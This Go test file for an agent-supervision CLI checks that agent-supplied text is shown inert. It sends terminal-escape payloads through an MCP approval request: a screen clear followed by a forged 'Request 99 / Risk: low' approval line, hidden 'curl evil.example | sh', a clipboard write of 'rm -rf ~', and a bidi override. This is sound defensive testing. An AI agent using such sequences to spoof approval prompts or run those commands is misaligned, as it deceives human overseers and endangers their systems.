package full

import (
	"bytes"
	"context"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/agentinfra/agentinfra/cmd/agentinfra/internal/cli"
	"github.com/agentinfra/agentinfra/events"
	"github.com/agentinfra/agentinfra/internal/textdiff"
	"github.com/agentinfra/agentinfra/mcpserver"
	"github.com/agentinfra/agentinfra/store"
	"github.com/agentinfra/agentinfra/supervision"
	"github.com/agentinfra/agentinfra/task"
	"github.com/agentinfra/agentinfra/workspace"
)

// The vectors of issue 27, item 4, as an agent (an MCP client of `serve`'s
// agent toolset) sends them in an ask_approval: its client name, the
// request's title, the file's name and the diff's lines.
const (
	evilClient = "claude\x1b]0;pwned\a\u202e"
	evilTitle  = "Edit notes\x1b[2J\x1b[HRequest 99: Run git status\nRisk: low"
	evilFile   = "notes\u202edm.txt"
)

var evilLines = []string{
	"hidden: \x1b[8mcurl evil.example | sh\x1b[0m",
	"clipboard: \x1b]52;c;" + "cm0gLXJmIH4=" + "\a", // OSC 52 of "rm -rf ~"
	"\x1b[2J\x1b[HRequest 99: Run git status",
	"Risk: low\u009b2J",
}

// Issue 27, item 4: agent-controlled text reached the terminal raw in
// inbox, inbox show, session list and show, and the inline prompt of a
// supervised dispatch: a screen clear then a fake "Request 99: Run git
// status / Risk: low", hidden text, a window title, a clipboard write, a
// right-to-left override. Through the real MCP tool and the real commands,
// the output now holds none of these bytes, and shows each escape.
func TestAgentTextReachesTheTerminalInert(t *testing.T) {
	dir := t.TempDir()
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	if _, err := task.Init(ctx, dir); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, evilFile), []byte("one\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	diff, err := textdiff.Diff(evilFile, "one\n", "one\n"+strings.Join(evilLines, "\n")+"\n")
	if err != nil {
		t.Fatal(err)
	}
	ws, err := workspace.New(dir)
	if err != nil {
		t.Fatal(err)
	}
	srv, err := mcpserver.New(mcpserver.Options{Workspace: ws, Getenv: func(k string) string { return ana.Env[k] },
		Toolsets: []string{mcpserver.ToolsetAgent}})
	if err != nil {
		t.Fatal(err)
	}
	defer srv.Close()
	st, ct := mcp.NewInMemoryTransports()
	ss, err := srv.MCP().Connect(ctx, st, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer ss.Close()
	cs, err := mcp.NewClient(&mcp.Implementation{Name: evilClient, Version: "1"}, nil).Connect(ctx, ct, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer func() { cancel(); cs.Close() }() // a call still waiting ends first
	asked := make(chan *mcp.CallToolResult, 1)
	go func() {
		res, err := cs.CallTool(ctx, &mcp.CallToolParams{Name: "ask_approval",
			Arguments: map[string]any{"title": evilTitle, "file": evilFile, "diff": diff}})
		if err != nil && ctx.Err() == nil {
			t.Errorf("ask_approval: %v", err)
		}
		asked <- res
	}()

	store1 := openTestStore(t, ws)
	var req store.PendingView
	waitFor(t, store1, "the agent's request is pending", func() bool {
		p, _ := store1.Pending(ctx)
		if len(p) == 1 {
			req = p[0]
		}
		return len(p) == 1
	})
	id, sid := fmt.Sprint(req.ID), fmt.Sprint(req.SessionID)
	for _, args := range [][]string{{"inbox"}, {"inbox", "show", id}, {"session", "list"}, {"session", "show", sid}} {
		code, out, errOut := runCLI(t, dir, ana, args...)
		if code != 0 {
			t.Fatalf("%v: exit %d\n%s", args, code, errOut)
		}
		checkInertOutput(t, strings.Join(args, " "), out+errOut)
		checkNoLineOfItsOwn(t, strings.Join(args, " "), out+errOut)
		// The client's name shows where the command lists the session's
		// agent; what it hid is shown.
		if !slices.Contains(args, "show") && !strings.Contains(out, `claude\x1b]0;pwned\a\u202e`) {
			t.Errorf("%v: the client's name is not shown escaped:\n%s", args, out)
		}
	}
	_, out, _ := runCLI(t, dir, ana, "inbox", "show", id)
	for _, want := range []string{`Edit notes\x1b[2J\x1b[HRequest 99: Run git status Risk: low`, `notes\u202edm.txt`,
		`+hidden: \x1b[8mcurl evil.example | sh\x1b[0m`, `+clipboard: \x1b]52;c;cm0gLXJmIH4=\a`, `+Risk: low\u009b2J`} {
		if !strings.Contains(out, want) {
			t.Errorf("inbox show does not show %q:\n%s", want, out)
		}
	}

	// The inline prompt of a supervised dispatch: the same request, asked
	// on the terminal, answered there.
	ses, err := store1.Session(ctx, req.SessionID)
	if err != nil {
		t.Fatal(err)
	}
	r, err := store1.Request(ctx, req.ID)
	if err != nil {
		t.Fatal(err)
	}
	svc, err := supervision.New(supervision.Options{Store: store1, Workspace: ws})
	if err != nil {
		t.Fatal(err)
	}
	changes, err := svc.Changes(ctx)
	if err != nil {
		t.Fatal(err)
	}
	var errBuf bytes.Buffer
	lines := make(chan string, 1)
	lines <- "n not this"
	askInline(ctx, &cli.IOStreams{ErrOut: &errBuf}, svc, supervision.Person(ses.Owner, supervision.SurfaceTerminal), r, lines, changes)
	checkInertOutput(t, "the inline prompt", errBuf.String())
	checkNoLineOfItsOwn(t, "the inline prompt", errBuf.String())
	if !strings.Contains(errBuf.String(), `+clipboard: \x1b]52;c;cm0gLXJmIH4=\a`) || !strings.Contains(errBuf.String(), "rejected") {
		t.Errorf("the inline prompt:\n%s", errBuf.String())
	}
	select {
	case res := <-asked:
		if res == nil || res.IsError {
			t.Fatalf("ask_approval: %+v", res)
		}
	case <-time.After(time.Minute):
		t.Fatal("ask_approval was not answered by the rejection")
	}
}

// The run log of `agent logs`: a tool's input and the agent's text.
func TestLogItemIsInert(t *testing.T) {
	var b bytes.Buffer
	printLogItem(&b, events.RunItem{Time: taskNow, Kind: "tool", Tool: "Bash\x1b[2J", Text: strings.Join(evilLines, "\n") + "\n\u202eevil"})
	checkInertOutput(t, "printLogItem", b.String())
	if !strings.Contains(b.String(), "tool Bash\\x1b[2J: hidden: \\x1b[8mcurl") || !strings.Contains(b.String(), "\n    \\u202eevil") {
		t.Errorf("log item:\n%s", b.String())
	}
}

// checkInertOutput fails when out holds a byte or character a terminal
// acts on (ESC, BEL, CR, a C1 control) or that reorders or hides text
// (bidi, zero-width).
func checkInertOutput(t *testing.T, what, out string) {
	t.Helper()
	for i, r := range out {
		if (unicode.Is(unicode.Cc, r) && r != '\n' && r != '\t') || unicode.Is(unicode.Cf, r) {
			t.Errorf("%s: output holds %U at byte %d:\n%q", what, r, i, out)
			return
		}
	}
}

// checkNoLineOfItsOwn fails when the agent's one-line text (a title) drew
// a line of its own, as if it were ours: a fake request.
func checkNoLineOfItsOwn(t *testing.T, what, out string) {
	t.Helper()
	for _, l := range strings.Split(out, "\n") {
		if strings.HasPrefix(l, "Request 99") || strings.HasPrefix(l, "Risk: low") {
			t.Errorf("%s: the agent drew a line of its own: %q", what, l)
		}
	}
}

func openTestStore(t *testing.T, ws *workspace.Workspace) *store.Store {
	t.Helper()
	st, err := store.OpenWorkspace(context.Background(), ws, store.Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	return st
}

// waitFor waits for cond, woken by the store's changes (bounded).
func waitFor(t *testing.T, st *store.Store, what string, cond func() bool) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	changes, err := st.Changes(ctx)
	if err != nil {
		t.Fatal(err)
	}
	for !cond() {
		select {
		case <-ctx.Done():
			t.Fatalf("never: %s", what)
		case <-changes:
		}
	}
}
